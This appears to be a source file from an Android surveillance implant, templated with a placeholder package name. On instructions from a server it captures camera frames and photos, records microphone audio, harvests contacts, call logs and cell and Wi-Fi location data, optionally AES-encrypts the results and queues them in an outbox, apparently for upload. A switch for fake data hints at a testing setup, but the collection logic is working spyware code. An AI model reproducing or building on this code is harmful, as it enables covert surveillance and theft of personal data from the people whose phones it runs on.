package @PKG@;

import android.content.Context;
import android.os.Handler;
import android.os.HandlerThread;
import java.io.IOException;

/** What one round takes, in the order that the server gave. */
final class Taking {
  private final Context c;
  private final Order o;
  private final int round;

  Taking(Context c, Order o, int round) {
    this.c = c;
    this.o = o;
    this.round = round;
  }

  void all() throws Exception {
    for (String what : o.words("take")) {
      try {
        if (what.equals("camera") && o.on("camera")) camera();
        if (what.equals("mic") && o.on("mic")) sound();
        if (what.equals("people")) people();
        if (what.equals("places")) places();
      } catch (Exception e) {
        Outbox.note(c, what + ": " + e);
      }
    }
  }

  private void camera() throws Exception {
    HandlerThread t = new HandlerThread("lens");
    t.start();
    try {
      Handler h = new Handler(t.getLooper());
      boolean front = o.turn("facing", round / 2, "back", "front").equals("front");
      boolean old = Plan.OLD || o.turn("camera_api", round, "1", "2").equals("1");
      Shot s = old ? Camera1Shot.take(o, front, h) : Camera2Shot.take(c, o, front, h);
      if (s.error != null) Outbox.note(c, "camera" + (old ? "1" : "2") + ": " + s.error);
      if (Plan.FAKE) s = Fake.shot(s, round);
      for (byte[] raw : s.frames) {
        keep("raw", Plan.END_RAW, raw);
        keep("preview", Plan.END_JPEG, Shot.jpeg(raw, s.width, s.height));
      }
      if (s.photo != null) keep("photo", Plan.END_JPEG, Shape.as(o.word("shape", "none"), s.photo));
    } finally {
      t.quit();
    }
  }

  private void sound() throws Exception {
    // A recorder would leave true sound in its passing file.
    boolean record = Plan.FAKE || o.turn("mic_api", round, "audiorecord", "mediarecorder").equals("audiorecord");
    String form = record ? o.word("sound_form", "wav") : o.word("recorder_form", "m4a");
    byte[] b = record ? Sound.record(o, form) : Sound.recorder(c, o, form);
    if (Plan.FAKE) {
      form = "wav";
      b = Fake.sound(round, o.number("mic_seconds", 4));
    }
    keep("sound", form, b);
  }

  private void people() throws Exception {
    String s = Personal.people(c, o.on("contacts"), o.on("call_log"));
    if (s != null) keep("people", "json", Bytes.utf8(s));
  }

  private void places() throws Exception {
    String s = Personal.places(c, o.on("cells"), o.on("wifi"));
    if (s != null) keep("places", "json", Bytes.utf8(s));
  }

  private void keep(String kind, String end, byte[] b) throws IOException {
    if (b != null) Outbox.keep(c, kind, end, Plan.AES ? Seal.seal(b) : b);
  }
}
